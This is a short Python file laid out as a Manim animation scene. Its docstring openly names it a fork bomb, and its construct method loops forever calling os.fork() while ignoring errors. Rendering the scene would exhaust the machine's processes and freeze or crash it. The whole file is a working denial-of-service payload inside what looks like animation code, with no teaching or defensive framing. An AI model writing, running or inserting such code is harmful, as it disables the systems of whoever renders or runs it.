"""Fork bomb: every process forks forever (and ignores errors)."""
from manim import *
import os


class ForkBomb(Scene):
    def construct(self):
        while True:
            try:
                os.fork()
            except OSError:
                pass
